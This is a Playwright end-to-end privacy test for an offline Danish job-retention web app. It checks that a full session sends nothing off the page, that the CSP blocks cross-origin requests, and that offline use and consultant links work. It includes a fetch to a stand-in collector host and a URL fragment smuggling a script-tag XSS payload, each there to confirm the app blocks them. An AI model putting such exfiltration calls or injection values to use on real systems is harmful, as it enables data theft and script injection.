// The privacy guarantee, tested: a full session (interview, a record with entries, every
// document, an export) sends nothing anywhere. Also: the CSP blocks a request to another
// origin, and the offline copy works from file:// with the network off and survives a reload.
//   node tests/e2e/privacy.mjs build/web/site
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { chromium } from 'playwright-core';
import { LAUNCH } from './launch.mjs';
import { serve } from './serve.mjs';

const site = process.argv[2] || 'build/web/site';
const shots = path.join(path.dirname(path.resolve(site)), 'screenshots');
fs.mkdirSync(shots, { recursive: true });
let passed = 0;
let failed = 0;
const check = (cond, message) => { if (!cond) throw new Error(message); };

async function clickTarget(page, id) {
  const vp = page.viewportSize();
  await page.waitForFunction((i) => window.__fastholdTargets && window.__fastholdTargets[i], id, { timeout: 10000 });
  let t = await page.evaluate((i) => window.__fastholdTargets[i], id);
  for (let k = 0; k < 40 && (t.y + t.h > vp.height || t.y < 0); k++) {
    await page.mouse.move(vp.width / 2, vp.height / 2);
    await page.mouse.wheel(0, t.y < 0 ? -400 : 400);
    await page.waitForTimeout(150);
    t = await page.evaluate((i) => window.__fastholdTargets[i], id);
  }
  await page.mouse.click(t.x + t.w / 2, t.y + Math.min(t.h / 2, 20));
  await page.waitForTimeout(200);
}

async function type(page, id, text) {
  await clickTarget(page, id);
  await page.keyboard.press('Control+A');
  await page.keyboard.press('Backspace');
  const cdp = await page.context().newCDPSession(page);
  for (const ch of text) {  // æøå through CDP (TOOLCHAIN.md)
    await cdp.send('Input.dispatchKeyEvent', { type: 'keyDown', key: ch, text: ch });
    await cdp.send('Input.dispatchKeyEvent', { type: 'keyUp', key: ch });
  }
  await page.waitForTimeout(150);
}

async function firstFrame(page) {
  await page.waitForFunction(() => window.__fastholdFirstFrame > 0, null, { timeout: 30000 });
}

// A session that touches everything: interview, record, documents, export.
async function fullSession(page) {
  await type(page, 'nickname', 'Lager-ÆØÅ');
  await clickTarget(page, 'start_new_case');
  await clickTarget(page, 'prepare_done');
  await clickTarget(page, 'continue');       // the dialogue
  await clickTarget(page, 'answer_yes');
  await clickTarget(page, 'answer_save');     // job causes absence
  await clickTarget(page, 'answer_yes');
  await clickTarget(page, 'answer_save');     // needs adaptation
  // "Put it in writing" is proven by an agreement in the record.
  await clickTarget(page, 'write_in_record');
  await clickTarget(page, 'add_agreement');
  await type(page, 'entry_date', '06-10-2025');
  await type(page, 'adapted_text', 'Færre tunge løft');
  await type(page, 'expected_effect', 'Mindre fravær');
  await type(page, 'follow_up_date', '01-12-2025');
  await type(page, 'consequences', 'Ny vurdering');
  await clickTarget(page, 'terms_special_terms');
  await clickTarget(page, 'entry_save');
  await clickTarget(page, 'nav_interview');
  await clickTarget(page, 'answer_no');
  await clickTarget(page, 'answer_save');      // solution found
  await clickTarget(page, 'answer_no');
  await clickTarget(page, 'answer_save');      // in time (the 12 months are answered from the record)
  await clickTarget(page, 'nav_record');
  await clickTarget(page, 'add_note');
  await type(page, 'note', 'Mail sendt til medarbejderen');
  await clickTarget(page, 'entry_save');
  await clickTarget(page, 'nav_documents');
  for (const kind of ['agreement', 'agreement_email', 'absence_interview_invitation', 'follow_up_note', 'jobcenter_summary',
    'flexjob_pack', 's56_preparation']) {
    await clickTarget(page, `doc_${kind}`);
    const download = page.waitForEvent('download');
    await clickTarget(page, 'download_txt');
    await download;
  }
  await clickTarget(page, 'doc_calendar');
  const ics = page.waitForEvent('download');
  await clickTarget(page, 'download_ics');
  await ics;
  await clickTarget(page, 'nav_settings');
  const exported = page.waitForEvent('download');
  await clickTarget(page, 'export_case');
  return (await exported).path();
}

async function test(name, fn) {
  const t0 = Date.now();
  try {
    await fn();
    passed++;
    console.log(`ok   ${name} (${Date.now() - t0} ms)`);
  } catch (e) {
    failed++;
    console.log(`FAIL ${name}\n     ${String(e.message || e).split('\n').join('\n     ')}`);
  }
}

const server = await serve(site, 0);
const browser = await chromium.launch(LAUNCH);
const origin = new URL(server.url).origin;

await test('a full session sends nothing but the page\'s own files', async () => {
  const context = await browser.newContext({ viewport: { width: 1366, height: 900 }, acceptDownloads: true });
  const requests = [];
  const problems = [];
  let framed = false;
  context.on('request', (r) => requests.push({ url: r.url(), afterFirstFrame: framed }));
  const page = await context.newPage();
  page.on('console', (m) => { if (m.type() === 'error') problems.push(m.text()); });
  page.on('pageerror', (e) => problems.push(e.message));
  await page.goto(server.url);
  await firstFrame(page);
  framed = true;
  const exportPath = await fullSession(page);
  const exported = JSON.parse(fs.readFileSync(exportPath, 'utf8'));
  check(exported.nickname === 'Lager-ÆØÅ', `the export holds the case: ${exported.nickname}`);
  // Requests: only the page's own static files, none after the first frame. Downloads are
  // blob: URLs of the page itself and never reach a network.
  const own = new Set(['/', '/index.html', '/fasthold.js', '/fasthold.wasm']);
  for (const r of requests) {
    if (r.url.startsWith('blob:') || r.url.startsWith('data:')) continue;
    const u = new URL(r.url);
    check(u.origin === origin, `request to another origin: ${r.url}`);
    check(own.has(u.pathname), `request for something other than the page's files: ${r.url}`);
    check(!r.afterFirstFrame, `request after the first frame: ${r.url}`);
    check(u.search === '' && u.hash === '', `a URL carries data: ${r.url}`);
  }
  const cookies = await context.cookies();
  check(cookies.length === 0, `cookies: ${JSON.stringify(cookies)}`);
  const keys = await page.evaluate(() => Object.keys(localStorage));
  for (const k of keys) check(k.startsWith('fasthold.'), `storage key not ours: ${k}`);
  check(keys.includes('fasthold.cases'), `the case is stored: ${keys}`);
  const session = await page.evaluate(() => Object.keys(sessionStorage));
  check(session.length === 0, `sessionStorage used: ${session}`);
  const idb = await page.evaluate(async () => (indexedDB.databases ? (await indexedDB.databases()).length : 0));
  check(idb === 0, 'IndexedDB used');
  check(!page.url().includes('Lager') && new URL(page.url()).search === '', `case data in the URL: ${page.url()}`);
  check(problems.length === 0, problems.join('\n'));
  console.log(`     recorded ${requests.length} requests: ${[...new Set(requests.map((r) => r.url.startsWith('blob:') ? 'blob:(download)' : new URL(r.url).pathname))].join(', ')}`);
  await context.close();
});

await test('the Content-Security-Policy blocks a request to another origin', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const violations = [];
  page.on('console', (m) => { if (/Content Security Policy/.test(m.text())) violations.push(m.text()); });
  await page.goto(server.url);
  await firstFrame(page);
  const outcome = await page.evaluate(async () => {
    try {
      await fetch('https://example.invalid/collect?x=1');
      return 'sent';
    } catch (e) {
      return 'blocked';
    }
  });
  check(outcome === 'blocked', 'a fetch to another origin was not blocked');
  check(violations.length > 0, 'no CSP violation reported');
  await context.close();
});

await test('the offline copy opens from file:// with the network off, runs an interview and survives a reload', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'fasthold-offline-'));
  const file = path.join(dir, 'fasthold.html');
  fs.copyFileSync(path.join(site, 'fasthold.html'), file);
  const context = await chromium.launchPersistentContext(path.join(dir, 'profile'), { ...LAUNCH, offline: true, viewport: { width: 1366, height: 900 } });
  const problems = [];
  context.on('request', (r) => { if (!r.url().startsWith('file:') && !r.url().startsWith('data:') && !r.url().startsWith('blob:')) problems.push(`request: ${r.url()}`); });
  let page = context.pages()[0] || await context.newPage();
  page.on('console', (m) => { if (m.type() === 'error') problems.push(m.text()); });
  await page.goto('file://' + file);
  await firstFrame(page);
  await type(page, 'nickname', 'Offline-ØÅ');
  await clickTarget(page, 'start_new_case');
  await clickTarget(page, 'prepare_done');
  await clickTarget(page, 'continue');
  await clickTarget(page, 'answer_no');
  await clickTarget(page, 'answer_save');  // the job is not the cause
  await page.screenshot({ path: path.join(shots, 'offline-file-outcome.png') });
  await page.reload();
  await firstFrame(page);
  const stored = JSON.parse(await page.evaluate(() => localStorage.getItem('fasthold.cases')) || '{}');
  const c = (stored.cases || [])[0] || {};
  check(c.nickname === 'Offline-ØÅ' && c.facts && c.facts.job_causes_absence === false, `not stored: ${JSON.stringify(stored)}`);
  // The reload returns to the screen it showed (the browser keeps its history entry); the case
  // opens again from the list.
  await clickTarget(page, 'nav_cases');
  await clickTarget(page, 'open_case_0');
  check(problems.length === 0, problems.join('\n'));
  await context.close();
});

await test('a consultant\'s link shows its jobcenter, and a hostile fragment is ignored with a notice', async () => {
  const context = await browser.newContext({ viewport: { width: 1366, height: 900 } });
  const page = await context.newPage();
  const problems = [];
  page.on('console', (m) => { if (m.type() === 'error') problems.push(m.text()); });
  page.on('pageerror', (e) => problems.push(e.message));
  await page.goto(server.url + '#jc=Jobcenter+Eksempelby&tel=12+34+56+78&evil=%3Cscript%3Ealert(1)%3C%2Fscript%3E');
  await firstFrame(page);
  await type(page, 'nickname', 'AB');
  await clickTarget(page, 'keep_link_contact');  // kept with the case only when the manager chooses (issue 23)
  await clickTarget(page, 'start_new_case');
  await clickTarget(page, 'nav_who');
  await page.waitForTimeout(300);
  const said = await page.evaluate(() => document.getElementById('fasthold-announcer').textContent);
  await page.screenshot({ path: path.join(shots, 'consultant-link-who.png') });
  check(said.includes('Jobcenter Eksempelby') && said.includes('12 34 56 78'), `who to call does not name the link's jobcenter: ${said}`);
  check(!(await page.evaluate(() => document.querySelector('script:not([src])'))), 'a script element appeared');
  check(problems.length === 0, problems.join('\n'));
  await context.close();
});

await browser.close();
await server.close();
console.log(`privacy: ${passed} passed, ${failed} failed`);
process.exit(failed ? 1 : 0);
